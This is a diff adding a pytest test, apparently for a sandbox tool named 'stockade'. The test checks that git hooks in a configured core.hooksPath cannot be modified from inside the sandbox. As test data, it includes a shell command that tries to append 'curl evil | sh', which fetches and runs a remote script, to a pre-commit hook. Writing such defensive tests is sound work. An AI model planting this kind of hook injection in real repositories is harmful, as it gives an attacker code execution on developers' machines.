@@ -237,3 +237,18 @@ def test_a_submodules_git_pointer_cannot_be_rewritten(
     assert (ws / "vendor" / "lib" / ".git").read_text() == pointer
     subprocess.run(["git", "-C", str(ws), "status"], capture_output=True, check=True)
     assert not list(ws.rglob("HOST-RAN"))
+
+
+def test_hooks_in_a_configured_hooks_path_are_read_only(
+        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    subprocess.run(["git", "init", "-q", str(ws)], check=True)
+    subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", ".githooks"], check=True)
+    (ws / ".githooks").mkdir()
+    (ws / ".githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    r = stockade("run", "--", "sh", "-c",
+                 "(echo 'curl evil | sh' >> .githooks/pre-commit) 2>/dev/null && echo WROTE; "
+                 "(echo x > .githooks/post-checkout) 2>/dev/null && echo ADDED; true", cwd=ws)
+    assert r.returncode == 0, r.stderr
+    assert "WROTE" not in r.stdout and "ADDED" not in r.stdout, r.stdout
+    assert (ws / ".githooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
